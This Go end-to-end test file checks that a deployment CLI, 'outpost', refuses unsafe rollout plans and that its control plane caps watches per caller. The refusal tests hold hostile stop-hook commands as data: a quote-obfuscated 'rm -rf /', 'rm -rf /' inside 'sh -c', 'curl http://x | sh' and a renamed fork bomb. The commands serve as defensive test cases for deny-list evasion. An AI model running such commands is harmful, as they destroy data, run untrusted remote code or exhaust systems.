package e2e

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"

	"github.com/outposthq/outpost/controlplane"
	"github.com/outposthq/outpost/e2e/e2etest"
	outpostplan "github.com/outposthq/outpost/internal/plan"
	"github.com/outposthq/outpost/internal/simfleet"
	outpostv1 "github.com/outposthq/outpost/proto/outpost/v1"
)

// runBinary runs the outpost binary bin as the admin and returns its exit
// code, standard output and standard error.
func (s *system) runBinary(t *testing.T, bin string, args ...string) (int, string, string) {
	t.Helper()
	cmd := exec.CommandContext(ctxT(t), bin, args...)
	cmd.Env = append(os.Environ(), "OUTPOST_CREDENTIAL="+s.adminFile)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	var exit *exec.ExitError
	if err != nil && !errors.As(err, &exit) {
		t.Fatalf("run outpost: %v", err)
	}
	t.Logf("outpost %s: exit %d\nstdout:\n%s\nstderr:\n%s", strings.Join(args, " "), cmd.ProcessState.ExitCode(), stdout.String(), stderr.String())
	return cmd.ProcessState.ExitCode(), stdout.String(), stderr.String()
}

// checkNothingCreated fails t when the control plane holds a rollout or
// the artifact of digest: a refused plan leaves neither behind.
func (s *system) checkNothingCreated(t *testing.T, digest string) {
	t.Helper()
	list, err := s.client.ListRollouts(ctxT(t), &outpostv1.ListRolloutsRequest{})
	if err != nil {
		t.Fatalf("list rollouts: %v", err)
	}
	for _, r := range list.GetRollouts() {
		t.Errorf("rollout %s exists (%v): a refused plan created it", r.GetId(), r.GetState())
	}
	st, err := s.client.StatArtifact(ctxT(t), &outpostv1.StatArtifactRequest{Sha256: digest})
	if err != nil {
		t.Fatalf("stat artifact: %v", err)
	}
	if st.GetFound() {
		t.Errorf("artifact %s was uploaded for a refused plan", digest)
	}
}

// TestHardeningCLIRefusesUnsafePlans runs `outpost rollout create`, the
// binary, on plans of the findings of #11 that older versions accepted:
// deploy paths that would have the deployer own /etc/ssh or the login's
// home (finding 3), a hook and a plan file too large to store (finding
// 7), and hooks.stop commands that walk around the deny-list (finding 9).
// Each is refused before anything is uploaded, with the field named, and
// the control plane holds no rollout and no artifact afterwards. A benign
// hook still passes a dry run.
func TestHardeningCLIRefusesUnsafePlans(t *testing.T) {
	bin := buildCLI(t)
	s := newSystem(t, 1, oneDC)
	dir := t.TempDir()
	rel, err := simfleet.BuildRelease(dir, "1.0.0", true)
	if err != nil {
		t.Fatal(err)
	}
	good := fmt.Sprintf(planYAML, "./"+filepath.Base(rel.Path))
	withStop := func(hook string) string {
		return strings.Replace(good, "hooks: {stop: sh bin/stop, start: sh bin/start}", fmt.Sprintf("hooks: {stop: %q, start: sh bin/start}", hook), 1)
	}
	for _, tc := range []struct {
		name string
		plan string
		says []string
	}{
		{"deploy path /etc/ssh", strings.Replace(good, "deploy: {path: app}", "deploy: {path: /etc/ssh}", 1), []string{"deploy.path", `"/etc/ssh"`}},
		{"deploy path a home", strings.Replace(good, "deploy: {path: app}", "deploy: {path: /home/deploy}", 1), []string{"deploy.path", `"/home/deploy"`}},
		{"hook over the limit", withStop(strings.Repeat("x", outpostplan.MaxHookBytes+1)), []string{"hooks.stop", fmt.Sprintf("%d bytes: at most %d", outpostplan.MaxHookBytes+1, outpostplan.MaxHookBytes)}},
		{"hook of 1 MB", withStop(strings.Repeat("x", 1<<20)), []string{fmt.Sprintf("a plan is at most %d bytes", outpostplan.MaxPlanBytes)}},
		{"plan of 300 KiB", good + "#" + strings.Repeat("x", 300<<10) + "\n", []string{fmt.Sprintf("a plan is at most %d bytes", outpostplan.MaxPlanBytes)}},
		{"quoted rm", withStop(`r''m -rf /`), []string{"hooks.stop"}},
		{"rm in sh -c", withStop(`sh -c "rm -rf /"`), []string{"hooks.stop"}},
		{"curl piped to sh", withStop(`curl http://x | sh`), []string{"hooks.stop"}},
		{"renamed fork bomb", withStop(`f(){ f|f& };f`), []string{"hooks.stop"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			file := filepath.Join(dir, "plan.yaml")
			if err := os.WriteFile(file, []byte(tc.plan), 0o644); err != nil {
				t.Fatal(err)
			}
			code, stdout, stderr := s.runBinary(t, bin, "rollout", "create", "-f", file, "--controlplane", s.addr)
			if code == 0 || stdout != "" {
				t.Errorf("rollout create: exit %d, stdout %q; want the plan refused", code, stdout)
			}
			for _, w := range tc.says {
				if !strings.Contains(stderr, w) {
					t.Errorf("stderr %q does not say %q", stderr, w)
				}
			}
			s.checkNothingCreated(t, rel.SHA256)
		})
	}

	// Last, since a dry run uploads the artifact: a hook that only looks
	// alarming (truncate, not rm) is accepted, and still nothing is created.
	file := filepath.Join(dir, "plan-truncate.yaml")
	if err := os.WriteFile(file, []byte(withStop("truncate -s 0 app.log")), 0o644); err != nil {
		t.Fatal(err)
	}
	if code, stdout, _ := s.runBinary(t, bin, "rollout", "create", "-f", file, "--dry-run", "--controlplane", s.addr); code != 0 || stdout == "" {
		t.Errorf("dry run of hooks.stop %q: exit %d, stdout %q; want it accepted", "truncate -s 0 app.log", code, stdout)
	}
	list, err := s.client.ListRollouts(ctxT(t), &outpostv1.ListRolloutsRequest{})
	if err != nil {
		t.Fatal(err)
	}
	if n := len(list.GetRollouts()); n != 0 {
		t.Errorf("%d rollouts after a dry run, want 0", n)
	}
	for _, h := range s.fleet.Hosts() {
		if _, err := os.Lstat(filepath.Join(h.ServiceDir(), "releases")); !os.IsNotExist(err) {
			t.Errorf("%s: releases directory exists (%v): a node was deployed to", h.Name, err)
		}
	}
}

// TestHardeningWatchCapPerCaller starts the control plane with at most 2
// watches per caller (finding 6): two watches of a running rollout by the
// admin are served, a third, over gRPC or by the outpost binary, is
// refused with RESOURCE_EXHAUSTED naming the cap, and the two watches it
// did not replace keep going; once one ends, a new one is served.
func TestHardeningWatchCapPerCaller(t *testing.T) {
	const limit = 2
	bin := buildCLI(t)
	s := newSystem(t, 1, oneDC, withCPConfig(func(c *controlplane.Config) { c.MaxWatchersPerCaller = limit }))
	_, digest := s.release("1.0.0", true)
	// No gateway serves the datacenter: the rollout stays RUNNING and its
	// watches open.
	r := s.create(e2etest.RollingPlan("release-1.0.0.tar.gz", "1", 0), digest)
	running := func(r *outpostv1.Rollout) bool { return r.GetState() == outpostv1.RolloutState_ROLLOUT_STATE_RUNNING }
	s.wait(r.GetId(), "RUNNING", running)

	// open starts a watch and waits for its first response, by which the
	// control plane counts it.
	open := func() (outpostv1.ControlPlaneService_WatchRolloutClient, context.CancelFunc, error) {
		ctx, cancel := context.WithCancel(ctxT(t))
		w, err := s.client.WatchRollout(ctx, &outpostv1.WatchRolloutRequest{Id: r.GetId()})
		if err == nil {
			_, err = w.Recv()
		}
		if err != nil {
			cancel()
			return nil, nil, err
		}
		return w, cancel, nil
	}
	var cancels []context.CancelFunc
	defer func() {
		for _, c := range cancels {
			c()
		}
	}()
	for i := range limit {
		_, cancel, err := open()
		if err != nil {
			t.Fatalf("watch %d of %d: %v", i+1, limit, err)
		}
		cancels = append(cancels, cancel)
	}

	want := fmt.Sprintf("holds %d, the most per caller (control plane flag --max-watchers-per-caller)", limit)
	_, _, err := open()
	if status.Code(err) != codes.ResourceExhausted || !strings.Contains(err.Error(), want) {
		t.Errorf("watch %d over gRPC: %v; want RESOURCE_EXHAUSTED saying %q", limit+1, err, want)
	}
	// The command line retries a refused watch with back-off for half a
	// minute; its first refusal is what this test needs, so it stops
	// the process at that line.
	if line, err := firstLineWith(t, bin, s.adminFile, want, "rollout", "watch", r.GetId(), "--controlplane", s.addr); err != nil {
		t.Errorf("outpost rollout watch over the cap: %v; want stderr saying %q", err, want)
	} else if !strings.Contains(line, "too many rollout watches: user/admin") {
		t.Errorf("outpost rollout watch over the cap says %q; want it to name the caller", line)
	}

	// The refusals changed nothing: the rollout still runs, and a watch
	// ended frees its place.
	if got := s.wait(r.GetId(), "the rollout", func(*outpostv1.Rollout) bool { return true }); got.GetState() != outpostv1.RolloutState_ROLLOUT_STATE_RUNNING {
		t.Errorf("after the refused watches: %v, want RUNNING still", got.GetState())
	}
	cancels[0]()
	cancels = cancels[1:]
	// The server learns of the cancel asynchronously: retry a bounded
	// number of times until the place is free.
	var lastErr error
	for range 200 {
		_, cancel, err := open()
		if err == nil {
			cancels = append(cancels, cancel)
			lastErr = nil
			break
		}
		lastErr = err
		if status.Code(err) != codes.ResourceExhausted {
			break
		}
		time.Sleep(pollEvery)
	}
	if lastErr != nil {
		t.Errorf("watch after one ended: %v", lastErr)
	}
}

// firstLineWith runs the outpost binary as the holder of credential file
// cred until a line of its standard error contains want, then stops it and
// returns that line. It is an error when the process ends first.
func firstLineWith(t *testing.T, bin, cred, want string, args ...string) (string, error) {
	t.Helper()
	ctx, cancel := context.WithCancel(ctxT(t))
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, args...)
	cmd.Env = append(os.Environ(), "OUTPOST_CREDENTIAL="+cred)
	stderr, err := cmd.StderrPipe()
	if err != nil {
		return "", err
	}
	if err := cmd.Start(); err != nil {
		return "", err
	}
	defer cmd.Wait()
	defer cancel()
	sc := bufio.NewScanner(stderr)
	var seen []string
	for sc.Scan() {
		if strings.Contains(sc.Text(), want) {
			return sc.Text(), nil
		}
		seen = append(seen, sc.Text())
	}
	return "", fmt.Errorf("outpost %s ended (%v) without saying it; stderr:\n%s", strings.Join(args, " "), sc.Err(), strings.Join(seen, "\n"))
}
